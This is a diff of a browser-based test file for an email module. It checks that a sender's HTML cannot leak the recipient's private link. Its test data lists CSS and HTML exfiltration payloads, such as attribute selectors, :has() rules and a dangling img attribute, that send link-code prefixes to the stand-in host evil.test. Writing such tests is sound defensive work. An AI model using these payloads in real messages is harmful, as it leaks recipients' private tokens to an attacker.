@@ -1,13 +1,16 @@
 import type { Browser } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { encloseContent } from '../../src/channels/email/message/enclose.js'
+import { encloseContent, type Footer } from '../../src/channels/email/message/enclose.js'
 import { asPerson, launchPersonal, missingBrowser } from '../support/browser.js'
 
 /** A sender's HTML beside the recipient's link, in a real browser: what it loads tells the sender nothing of the link. */
-const CODE = 'AZqPLnequ3yNkhIzRFVniaIEo7hwnyLk0r0N3bXwS1kq'
-const footer = { link: `https://n.test/n/${CODE}`, image: `https://n.test/o/${CODE}.gif` }
+const footerOf = (code: string) => ({ link: `https://n.test/n/${code}`, image: `https://n.test/o/${code}.gif` })
+const FOOTERS = [footerOf('AZqPLnequ3yNkhIzRFVniaIEo7hwnyLk0r0N3bXwS1kq'), footerOf('B'.repeat(44))]
 /** The same footer after the content as it came: each attack works, or its test would prove nothing. */
-const careless = (content: string): string => `${content}\n<p><a href="${footer.link}">Abra</a></p><img src="${footer.image}">`
+function careless(content: string, { link, image }: Footer): string {
+  const added = `<p><a href="${link}">Abra</a></p><img src="${image}">`
+  return content.includes('</body>') ? content.replace('</body>', `${added}</body>`) : `${content}${added}`
+}
 
 const ATTACKS: [string, string][] = [
   ['an attribute selector', '<style>a[href^="https://n.test/n/AZ"]{background:url(https://evil.test/AZ)}</style>'],
@@ -15,7 +18,7 @@ const ATTACKS: [string, string][] = [
     'an attribute selector that shows a picture of the content',
     '<style>.p{display:none}body:has(a[href*="/n/AZ"]) .p{display:block}</style><div class="p" style="background:url(https://evil.test/AZ);height:9px">x</div>',
   ],
-  ['an image left open', "<p>Oi</p><img src='https://evil.test/?x="],
+  ['the end of the body inside an attribute', "<p>Oi</p><img src='https://evil.test/?x=</body>'>"],
   ['a style sheet elsewhere', '<link rel="stylesheet" href="https://evil.test/x.css">'],
   ['an import', '<style>@import "https://evil.test/x.css";</style>'],
   [
@@ -51,7 +54,13 @@ describe.skipIf(missingBrowser !== null)(title, () => {
   }
 
   test.each(ATTACKS)('%s', async (_, content) => {
-    expect((await requestsOf(careless(content))).filter(url => url.startsWith('https://evil.test/'))).not.toEqual([])
-    expect(await requestsOf(encloseContent(content, footer).html)).toEqual([footer.image])
+    const [one, other] = await eachWith(footer => careless(content, footer))
+    expect(one).not.toEqual(other)
+    const [first, second] = await eachWith(footer => encloseContent(content, footer).html)
+    expect(first).toEqual(second)
   })
+
+  /** What the document loads beside our image, for either link. */
+  const eachWith = (make: (footer: Footer) => string): Promise<string[][]> =>
+    Promise.all(FOOTERS.map(async footer => (await requestsOf(make(footer))).filter(url => url !== footer.image)))
 })
